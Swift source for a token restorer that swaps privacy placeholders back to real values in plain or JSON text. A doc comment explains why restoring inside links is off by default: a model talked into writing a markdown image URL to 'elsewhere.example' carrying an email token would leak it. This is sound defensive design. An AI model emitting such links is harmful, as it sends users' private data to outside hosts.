/// Puts values back where their tokens stand.
public enum TokenRestorer {
    public struct Options: Sendable, Hashable {
        /// What the text is part of.
        public enum Spelling: Sendable, Hashable {
            case plain
            /// Text of a JSON document, such as the arguments of a tool: values are escaped as within a JSON string.
            case json
        }

        public var spelling: Spelling
        /// Nil: of all kinds. What was typed as a token always comes back.
        public var kinds: Set<PrivacyKind>?
        /// Also within web addresses. Off by default: a model that was talked into writing
        /// `![](https://elsewhere.example/?q=<EMAIL_1>)` would have the reader's program carry the value out.
        public var inLinks: Bool

        public init(spelling: Spelling = .plain, kinds: Set<PrivacyKind>? = nil, inLinks: Bool = false) {
            self.spelling = spelling
            self.kinds = kinds
            self.inLinks = inLinks
        }

        func allows(_ name: Substring) -> Bool {
            guard let kinds, name != TokenName.literal else { return true }
            return kinds.contains { TokenName.name(of: $0) == name }
        }
    }

    /// - Returns: nil where there is nothing to restore. Tokens that the vault did not make stay.
    public static func restore(
        _ text: [UInt8], from vault: TokenVault, options: Options = Options()
    ) -> [UInt8]? {
        var restorer = StreamRestorer(vault: vault, options: options)
        guard text.contains(UInt8(ascii: "<")) else { return nil }
        let restored = restorer.push(text) + restorer.finish()
        return restorer.restored > 0 ? restored : nil
    }

    static func spelled(_ value: [UInt8], _ spelling: Options.Spelling) -> [UInt8] {
        guard spelling == .json else { return value }
        var out: [UInt8] = []
        out.reserveCapacity(value.count + 8)
        for byte in value {
            switch byte {
            case UInt8(ascii: "\""), UInt8(ascii: "\\"): out += [UInt8(ascii: "\\"), byte]
            case 0x0a: out += "\\n".utf8
            case 0x0d: out += "\\r".utf8
            case 0x09: out += "\\t".utf8
            case 0..<0x20: out += "\\u00".utf8 + Array(HexDigits.of(byte))
            default: out.append(byte)
            }
        }
        return out
    }
}

private enum HexDigits {
    static func of(_ byte: UInt8) -> [UInt8] {
        let table = Array("0123456789abcdef".utf8)
        return [table[Int(byte >> 4)], table[Int(byte & 15)]]
    }
}
